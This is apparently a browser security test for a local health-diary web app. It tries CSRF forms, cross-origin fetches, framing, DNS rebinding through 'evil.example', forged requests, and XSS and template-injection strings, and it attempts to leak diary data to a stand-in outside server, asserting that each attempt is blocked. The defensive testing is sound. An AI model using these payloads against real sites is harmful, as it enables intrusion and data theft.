// What another web page, another user of the machine, and a name that was pointed at it would try, from a real browser.
//
//   node checks/browser/attacks.mjs build/titrate [folder for the pictures]
//
// Somebody keeps a diary and has its page open. Each attack is tried, is seen to be refused, and has written nothing.
// Then text that would be a program somewhere else is brought in at every place where text can be written, and is seen
// as text wherever it is shown.
import { createServer } from "node:http";
import { mkdirSync } from "node:fs";
import { request as plain_request } from "node:http";
import { join, resolve } from "node:path";
import assert from "node:assert/strict";
import { phone, program_of, root, visit, with_program, words_of } from "./visit.mjs";

const program = program_of(process.argv, "attacks.mjs");
const pictures = resolve(process.argv[3] ?? join(root, "build", "screenshots", "attacks"));
mkdirSync(pictures, { recursive: true });

const evil = "evil.example"; // the browser is told that it is this machine
const evening = "2026-06-01T21:00:00+02:00";
const write = { verb: "record", item: "pain", state: "value", value: 9, now: evening };
let refused = 0;

/** Another web server of this machine, with a page of its own. */
async function other_server() {
  const server = createServer((_, answer) => {
    answer.writeHead(200, { "content-type": "text/html" });
    answer.end("<!doctype html><title>Another page</title><p>Another page</p>");
  });
  await new Promise((listening) => server.listen(0, "127.0.0.1", listening));
  return { server, port: server.address().port };
}

/** What a page of somebody else gets for each way of asking; the answer is never readable there. */
function asks_from_elsewhere(page, api, body) {
  return page.evaluate(
    async ([url, text]) => {
      const json = { "content-type": "application/json" };
      const ways = {
        "fetch with the cookie": { method: "POST", credentials: "include", headers: json, body: text },
        "fetch without it": { method: "POST", credentials: "omit", headers: json, body: text },
        "as text, which asks nobody first": { method: "POST", credentials: "include", body: text },
        "without wanting to read the answer": { method: "POST", mode: "no-cors", credentials: "include", body: text },
        "a look": { method: "GET", credentials: "include" },
      };
      const got = {};
      for (const [way, options] of Object.entries(ways)) {
        try {
          const answer = await fetch(url, options);
          got[way] = answer.type === "opaque" ? "opaque" : `${answer.status} ${await answer.text()}`;
        } catch (error) {
          got[way] = error.name;
        }
      }
      got["a beacon"] = navigator.sendBeacon(url, new Blob([text], { type: "text/plain" })) ? "sent" : "not sent";
      got["an image"] = await new Promise((done) => {
        const image = new Image();
        image.onload = () => done("loaded");
        image.onerror = () => done("error");
        image.src = url.replace("/api", "/icon.svg");
      });
      got["a script"] = await new Promise((done) => {
        const script = document.createElement("script");
        script.onload = () => done("loaded");
        script.onerror = () => done("error");
        script.src = url.replace("/api", "/openapi.yaml");
        document.head.append(script);
      });
      return got;
    },
    [api, JSON.stringify(body)],
  );
}

/** A form is sent without asking anybody, and leads the window to the answer. */
async function form_from_elsewhere(context, from, api) {
  for (const type of ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data"]) {
    const page = await context.newPage();
    await page.goto(from);
    const answer = page.waitForResponse((response) => response.url() === api);
    await page.evaluate(
      ([url, enctype, text]) => {
        const form = Object.assign(document.createElement("form"), { action: url, method: "post", enctype });
        // The best that a form can do: its "=" within a string, so that the whole is JSON.
        const field = Object.assign(document.createElement("input"), { name: `${text.slice(0, -1)},"text":"` });
        field.value = '"}';
        form.append(field);
        document.body.append(form);
        form.submit();
      },
      [api, type, JSON.stringify(write)],
    );
    const { status } = await answer.then((response) => ({ status: response.status() }));
    assert.equal(status, 403, `a form as ${type}`);
    refused++;
    await page.close();
  }
}

/** Inside a frame of somebody else, and as a window that somebody else opened. */
async function framed_and_opened(context, from, origin) {
  const page = await context.newPage();
  await page.goto(from);
  const framed = await page.evaluate(async (url) => {
    const frame = document.createElement("iframe");
    frame.src = url;
    document.body.append(frame);
    await new Promise((done) => {
      frame.onload = frame.onerror = done;
      setTimeout(done, 3000);
    });
    return frame.contentDocument?.body?.innerText ?? null;
  }, `${origin}/`);
  assert.ok(framed === null || framed === "", "a frame shows nothing that can be read");
  for (const frame of page.frames().slice(1)) {
    const text = await frame.evaluate(() => document.body?.innerText ?? "").catch(() => "");
    assert.ok(!/Titrate/.test(text) || /refused|blocked/i.test(text), `a frame shows the page: ${text.slice(0, 80)}`);
    assert.equal(await frame.locator("main").count(), 0, "the page is in nobody's frame");
  }
  refused++;

  const opening = context.waitForEvent("page");
  await page.evaluate((url) => (globalThis.victim = open(url)), `${origin}/#mine/today`);
  const victim = await opening;
  await victim.waitForLoadState();
  assert.equal(await victim.evaluate(() => globalThis.opener), null, "the page knows no opener");
  const reach = await page.evaluate(() => {
    try {
      return globalThis.victim.closed ? "closed" : String(globalThis.victim.document?.title);
    } catch (error) {
      return error.name;
    }
  });
  assert.ok(["closed", "SecurityError"].includes(reach), `who opened it can see: ${reach}`);
  refused++;
  await victim.close();
  await page.close();
}

/** A name of the attacker that was pointed at this machine: the browser thinks that it is the attacker's own page. */
async function rebound(context, port) {
  const page = await context.newPage();
  const answer = await page.goto(`http://${evil}:${port}/`);
  assert.equal(answer.status(), 421, "the name does not belong to Titrate");
  assert.equal(await page.locator("script, main").count(), 0);
  refused++;
  const said = await page.evaluate(async (text) => {
    const headers = { "content-type": "application/json" };
    const reply = await fetch("/api", { method: "POST", credentials: "include", headers, body: text });
    return reply.status;
  }, JSON.stringify(write));
  assert.equal(said, 421);
  refused++;
  await page.close();
}

/** A page without an address has the origin "null". */
async function from_nowhere(context, api) {
  const page = await context.newPage();
  await page.goto("data:text/html,<!doctype html><title>Nowhere</title>");
  const answer = page.waitForResponse((response) => response.url() === api);
  await page.evaluate((url) => {
    const form = Object.assign(document.createElement("form"), { action: url, method: "post", enctype: "text/plain" });
    document.body.append(form);
    form.submit();
  }, api);
  const response = await answer;
  assert.equal(await response.request().headerValue("origin"), "null");
  assert.equal(response.status(), 403);
  refused++;
  await page.close();
}

/** What is no browser can write any header: without the secret of this start it gets nothing all the same. */
async function another_user({ port, cookie }) {
  const body = JSON.stringify(write);
  const send = (headers) =>
    new Promise((done, failed) => {
      const all = { "content-type": "application/json", "content-length": Buffer.byteLength(body), ...headers };
      const sent = plain_request({ host: "127.0.0.1", port, path: "/api", method: "POST", headers: all }, (answer) => {
        answer.resume();
        answer.on("end", () => done(answer.statusCode));
      });
      sent.on("error", failed);
      sent.end(body);
    });
  const wrong = cookie.replace(/.{8}$/, "00000000");
  const tries = [
    [{}, 403, "without a cookie"],
    [{ cookie: wrong }, 403, "with a guessed one"],
    [{ cookie, origin: "null" }, 403, "from nowhere"],
    [{ cookie, origin: `http://127.0.0.1:${port + 1}` }, 403, "from another port"],
    [{ cookie, "sec-fetch-site": "same-site" }, 403, "from the same machine's other page"],
    [{ cookie, host: `${evil}:${port}` }, 421, "under another name"],
    [{ cookie, "content-type": "text/plain" }, 415, "as text"],
  ];
  for (const [headers, status, way] of tries) {
    assert.equal(await send(headers), status, `another user, ${way}`);
    refused++;
  }
}

/** Programs that got into the page after all would be stopped by its own policy, and could tell nobody. */
async function inside(page, elsewhere) {
  const stopped = await page.evaluate(async (url) => {
    const violated = [];
    document.addEventListener("securitypolicyviolation", (e) => violated.push(e.effectiveDirective));
    const tried = async (name, act) => {
      const before = violated.length;
      let did = "nothing";
      globalThis.ran = false;
      try {
        did = String((await act()) ?? "nothing");
      } catch (error) {
        did = error.name;
      }
      for (let n = 0; n < 100 && violated.length === before; n++) await new Promise((done) => setTimeout(done, 20));
      return { name, did, ran: globalThis.ran, told: violated.slice(before) };
    };
    const put = (html) => document.body.insertAdjacentHTML("beforeend", html);
    const element = (tag, more) => document.body.append(Object.assign(document.createElement(tag), more));
    const link = () => {
      const a = Object.assign(document.createElement("a"), {
        href: "javascript:globalThis.ran = true",
        target: "_self",
      });
      document.body.append(a);
      a.click();
    };
    return [
      await tried("an inline script", () => element("script", { textContent: "globalThis.ran = true" })),
      await tried("a handler in the markup", () => put('<img src="data:," onerror="globalThis.ran = true">')),
      await tried("a javascript: address", link),
      await tried("eval", () => (0, eval)("globalThis.ran = true")),
      await tried("a function of text", () => new Function("globalThis.ran = true")()),
      await tried("a timer of text", () => void setTimeout("globalThis.ran = true")),
      await tried("a script from elsewhere", () => element("script", { src: `${url}/x.js` })),
      await tried("an inline style", () => element("style", { textContent: "main { display: none }" })),
      await tried("a style in the markup", () => put('<p id="styled" style="position: fixed">x</p>')),
      await tried("telling it by a fetch", async () => (await fetch(`${url}/?pain=9`)).status),
      await tried("telling it by an image", () => element("img", { src: `${url}/?pain=9` })),
      await tried("telling it by a frame", () => element("iframe", { src: `${url}/?pain=9` })),
      await tried("telling it by a form", () => {
        element("form", { action: url, id: "tell" });
        document.getElementById("tell").submit();
      }),
      await tried("another base of all addresses", () => {
        document.head.append(Object.assign(document.createElement("base"), { href: url }));
        return document.baseURI.startsWith(url) ? "moved" : "stayed";
      }),
    ];
  }, elsewhere);
  for (const { name, did, ran, told } of stopped) {
    assert.equal(ran, false, `${name} ran`);
    assert.ok(told.length > 0, `${name}: no policy forbade it (${did})`);
    refused++;
  }
  assert.ok(await page.locator("main").isVisible(), "an injected style hid the page");
}

/** Text that would be a program, in every place where text can be written, is text in every view that shows it. */
async function hostile_text(browser, server, say) {
  const mark = "onerror=globalThis.hit=1";
  const hostile = `<img src=x ${mark}> "><script>globalThis.hit=1</script> {{7*7}} javascript:alert(1)`;
  const at = await visit(browser, server, { size: phone, hour: evening });
  const { page, done, origin } = at;
  const person = {
    age: 40,
    sex: "female",
    life_stage: "none",
    authority: "US",
    conditions: [hostile],
    medicines: [hostile],
    supplements: [hostile],
    allergies: ["<b onclick=globalThis.hit=1>latex</b>"],
    other_sources: [{ name: hostile, elemental_mg_per_day: 10 }],
  };
  await done({ verb: "person", person });
  await done({ verb: "record", item: "note", state: "value", text: hostile, key: "h1" });
  await done({ verb: "record", item: "context", kind: "illness", state: "value", text: hostile, key: "h2" });
  const effect = hostile.slice(0, 60);
  await done({ verb: "record", item: "side_effect", effect, state: "value", value: 1, key: "h3" });
  // A second one of its kind on the same evening, and the same words in four lists: each is shown.
  await done({ verb: "record", item: "side_effect", effect: "tingling ears", state: "value", value: 1, key: "h5" });
  const label = `${hostile}\nServing size: 1 capsule\nMagnesium (as magnesium bisglycinate) 100 mg 24 %`;
  await done({
    verb: "product",
    product: { name: hostile, elemental_mg_per_unit: 100, ingredients: [hostile], label },
  });
  await done({ verb: "record", item: "pain", state: "value", value: 3, key: "h4" });
  await done({ verb: "plan_new", outcome: "pain" });

  const shown_in = [];
  const must_show = ["today", "you", "product", "sheet", "history", "import"];
  const views = ["today", "you", "product", "intake", "plan", "follow", "sheet", "history", "chart", "answer", "steps"];
  for (const view of [...views, "decide", "settings", "import"]) {
    await page.goto(`${origin}/#mine/${view}`);
    await page.waitForFunction((title) => document.title.startsWith(`${title} `), say.views[view]);
    await page.getByRole("main").getByRole("heading", { level: 1 }).first().waitFor();
    for (const text of [say.waiting, say.sheet.working, say.follow.working, say.answer.working])
      await page.getByText(text).waitFor({ state: "hidden" });
    if (view === "import") {
      const csv = Buffer.from(
        `day,dose_mg,"${hostile.replaceAll('"', '""')}"\n2026-05-01,0,6\n2026-05-02,200,x${hostile}\n`,
      );
      const names = { name: `${mark}.csv`, mimeType: "text/csv", buffer: csv };
      await page.locator("[data-bring] input[type=file]").setInputFiles(names); // kept, tried, and told with its names
      await page.locator("[data-bring]").getByText(mark).first().waitFor();
      await page.locator(".drop input[type=file]").setInputFiles(names);
      await page.getByRole("main").getByText(mark).first().waitFor();
    }
    // Looked at in one go, at a moment at which it is shown where it must be: a view may still be filling itself.
    const looked = await page.waitForFunction(
      ([text, wanted]) => {
        const fields = [...document.querySelectorAll("input, textarea")].map((one) => one.value);
        const shown = document.body.textContent.includes(text) || fields.some((value) => value.includes(text));
        if (wanted && !shown) return false;
        const elements = document.querySelectorAll('main img, main script, [onerror], a[href^="javascript:"]').length;
        return { hit: globalThis.hit ?? null, elements, shown };
      },
      [mark, must_show.includes(view)],
    );
    const found = await looked.jsonValue();
    assert.equal(found.hit, null, `${view}: text was run`);
    assert.equal(found.elements, 0, `${view}: text became an element`);
    if (found.shown) shown_in.push(view);
  }
  for (const view of must_show) assert.ok(shown_in.includes(view), `${view} does not show what was written there`);
  await page.goto(`${origin}/#mine/today`);
  await page.getByRole("textbox", { name: say.today.note_label }).or(page.getByRole("textbox")).first().waitFor();
  await page.screenshot({ path: join(pictures, "hostile-text.png"), fullPage: true });
  assert.deepEqual(at.complaints, [], "what the browser complained about");
  console.log(`  hostile text is text in ${shown_in.join(", ")}`);
  await at.context.close();
}

async function main() {
  const other = await other_server();
  const elsewhere = `http://127.0.0.1:${other.port}`;
  const say = await words_of("en");
  const act = async ({ server, browser }) => {
    const at = await visit(browser, server, {});
    const { page, context, origin, done } = at;
    const { port } = new URL(origin);
    const api = `${origin}/api`;
    await done({ verb: "track", outcomes: ["pain"] }, evening);
    await done({ verb: "record", item: "pain", state: "value", value: 3, key: "mine" }, evening);
    const count = async () => {
      const { events } = await done({ verb: "history", from: "2020-01-01", to: "2030-01-01" }, evening);
      return JSON.stringify(events);
    };
    const before = await count();
    const nothing_written = async (by) => assert.equal(await count(), before, `${by} wrote into the diary`);

    const cookies = await context.cookies(origin);
    const cookie = cookies.map(({ name, value }) => `${name}=${value}`).join("; ");
    assert.ok(cookies.every(({ httpOnly, sameSite }) => httpOnly && sameSite === "Strict"));
    assert.equal(await page.evaluate(() => document.cookie), "", "no program of a page can read the key");

    for (const from of [elsewhere, `http://localhost:${other.port}`, `http://${evil}:${other.port}`]) {
      const foreign = await context.newPage();
      await foreign.goto(from);
      const got = await asks_from_elsewhere(foreign, api, write);
      const harmless = { "a beacon": "sent" }; // nobody hears what became of it
      for (const [way, answer] of Object.entries(got)) {
        const wanted = harmless[way] ?? (/^(an image|a script)$/.test(way) ? "error" : "TypeError");
        assert.equal(answer, wanted, `${from}: ${way}`);
        refused++;
      }
      await foreign.close();
      await nothing_written(`a page of ${from}`);
    }
    await form_from_elsewhere(context, elsewhere, api);
    await nothing_written("a form");
    await framed_and_opened(context, elsewhere, origin);
    await rebound(context, port);
    await nothing_written("a rebound name");
    await from_nowhere(context, api);
    await another_user({ port: Number(port), cookie });
    await nothing_written("another user");

    await page.goto(`${origin}/#mine/today`);
    await page.locator("[data-outcome]").first().waitFor();
    await inside(page, elsewhere);
    await nothing_written("something inside the page");
    await context.close();
    console.log(`  ${refused} attacks refused, nothing written`);
    await hostile_text(browser, server, say);
  };
  try {
    await with_program(program, act, { pictures, browser_args: [`--host-resolver-rules=MAP ${evil} 127.0.0.1`] });
  } finally {
    other.server.close();
  }
}

main().then(
  () => console.log("The diary stays closed to others."),
  (error) => {
    console.error(`The diary is not closed to others.\n${error.stack ?? error}`);
    process.exit(1);
  },
);
